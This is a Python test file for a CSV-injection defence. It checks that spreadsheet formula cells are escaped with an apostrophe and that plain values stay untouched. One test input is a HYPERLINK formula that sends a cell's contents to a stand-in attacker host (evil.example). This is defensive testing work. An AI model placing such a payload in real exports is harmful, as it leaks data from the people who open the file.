"""Cells that a spreadsheet would evaluate are written as text (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from carehub.core.spreadsheet import SafeWriter, safe_cell, unescape_cell


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1,2)", "-2+3", "@cmd", "=1+1",
    "\t=1+1", "\r=1+1", "-", "+1 716 555 0100", "=",
])
def test_formula_cells_get_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value
    assert unescape_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", [
    "NS000123", "-12.5", "+3", "-7", "1e5", "-1.5e-3", ".5", "", "Erie, NY", "a=b", "'quoted",
    7, -7, 1.5, None, True,
])
def test_plain_values_are_untouched(value):
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert unescape_cell(value) == value


def test_the_writer_escapes_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = SafeWriter(buffer, lineterminator="\n")
    writer.writerow(["member_id", "service"])
    writer.writerows([["=2+5", "@SUM(A1)"], ["M1", "-1"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["member_id", "service"], ["'=2+5", "'@SUM(A1)"], ["M1", "-1"]]
